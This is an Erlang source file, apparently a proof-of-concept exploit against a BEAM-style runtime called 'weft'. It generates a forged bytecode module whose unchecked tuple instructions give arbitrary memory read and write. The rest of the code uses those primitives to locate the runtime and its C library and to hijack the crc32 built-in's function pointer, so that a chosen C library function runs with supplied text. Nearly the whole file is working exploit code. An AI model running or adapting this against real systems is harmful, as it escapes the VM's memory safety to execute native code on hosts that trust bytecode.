%% An attack on weft itself, from code that lies. Where bytecode is believed, an instruction for tuples reads and writes what
%% is no tuple; taken:main/1 makes reads and writes of any address of that, finds out where weft and its C library lie, and
%% calls a function of that library with a text.
%%
%% write/1 writes the module `lie' that it needs, in the assembly language that the compiler's last pass takes.
-module(taken).
-export([write/1, main/1]).

%% A word of a binary is the second element of the tuple that it is not.
write(Folder) ->
    Code = [{function, read, 2, 2,      % (Address, Out): the word at an address
             [{label, 1}, {func_info, {atom, lie}, {atom, read}, 2}, {label, 2},
              {get_tuple_element, {x, 0}, 1, {x, 0}}, {get_tuple_element, {x, 0}, 0, {x, 0}},
              {set_tuple_element, {x, 0}, {x, 1}, 1}, {move, {atom, ok}, {x, 0}}, return]},
            {function, write, 2, 4,     % (Address, Word): puts a word there
             [{label, 3}, {func_info, {atom, lie}, {atom, write}, 2}, {label, 4},
              {get_tuple_element, {x, 0}, 1, {x, 0}}, {get_tuple_element, {x, 1}, 1, {x, 1}},
              {set_tuple_element, {x, 1}, {x, 0}, 0}, {move, {atom, ok}, {x, 0}}, return]},
            {function, words, 2, 6,     % (Term, Out): where a term lies
             [{label, 5}, {func_info, {atom, lie}, {atom, words}, 2}, {label, 6},
              {set_tuple_element, {x, 0}, {x, 1}, 1}, {move, {atom, ok}, {x, 0}}, return]},
            {function, call, 1, 8,      % (Out): what crc32/1 returns now
             [{label, 7}, {func_info, {atom, lie}, {atom, call}, 1}, {label, 8},
              {allocate, 1, 1}, {move, {x, 0}, {y, 0}}, {call_ext, 1, {extfunc, erlang, crc32, 1}},
              {set_tuple_element, {x, 0}, {y, 0}, 1}, {move, {atom, ok}, {x, 0}}, {deallocate, 1}, return]},
            {function, inside, 1, 10,   % (Fun): what is in it
             [{label, 9}, {func_info, {atom, lie}, {atom, inside}, 1}, {label, 10},
              {get_tuple_element, {x, 0}, 0, {x, 0}}, return]}],
    Exports = [{Name, Arity} || {function, Name, Arity, _, _} <- Code],
    {ok, Beam} = beam_asm:module({lie, Exports, [], Code, 11}, [], [], []),
    ok = file:write_file(filename:join(Folder, "lie.beam"), Beam).

%% Of the program under attack: where it has crc32/1, and where the address of a function of the C library; of that library:
%% where this function is, one that returns its argument, and the one to call with the text.
main([Text | Numbers]) ->
    [Crc, Slot, Known, Same, Wanted] = [list_to_integer(N, 16) || N <- Numbers],
    {Place, Program} = find(Crc, lie:inside(fun erlang:crc32/1)),
    Library = read(Program + Slot) - Known,
    {0, 0} = {Program rem 4096, Library rem 4096},
    Process = call(Place, Library + Same),
    io:format("weft lies at ~.16b, its library at ~.16b, the process at ~.16b~n", [Program, Library, Process]),
    write_text(Process, list_to_binary(Text)),
    call(Place, Library + Wanted).

%% The built-in of an export lies in one of its first words, and has its C function in one of its own.
find(Crc, Export) ->
    hd([{Export + 8 * I, V - Crc} || I <- lists:seq(0, 7), W <- [read(Export + 8 * I)], is_address(W),
                                     J <- lists:seq(0, 5), V <- [read(W + 8 * J)], (V - Crc) rem 4096 =:= 0, V > Crc]).

is_address(W) -> W rem 8 =:= 0 andalso W > 1 bsl 32 andalso W < 1 bsl 47.

%% A built-in that is made up, with that function.
call(Place, Function) ->
    Out = word(0),
    Bif = list_to_binary([[<<Function:64/little>> || _ <- lists:seq(1, 4)], <<0:192>>]),
    write(Place, bytes_at(Bif)),
    lie:call(Out),
    value(Out).

write_text(Address, Text) when byte_size(Text) < 16 ->
    <<First:64/little, Second:64/little>> = <<Text/binary, 0:((16 - byte_size(Text)) * 8)>>,
    write(Address, First),
    write(Address + 8, Second).

%% Behind its header and its size.
bytes_at(Binary) ->
    Out = word(0),
    lie:words(Binary, Out),
    value(Out) - 2 + 16.

%% Elements of a tuple are counted from the word behind the header.
read(Address) ->
    Out = word(0),
    lie:read(word(Address - 8 + 2), Out),
    value(Out).

write(Address, Value) -> lie:write(word(Address - 8 + 2), word(Value)).

word(N) -> list_to_binary(binary_to_list(<<N:64/little>>)).
value(<<N:64/little>>) -> N.
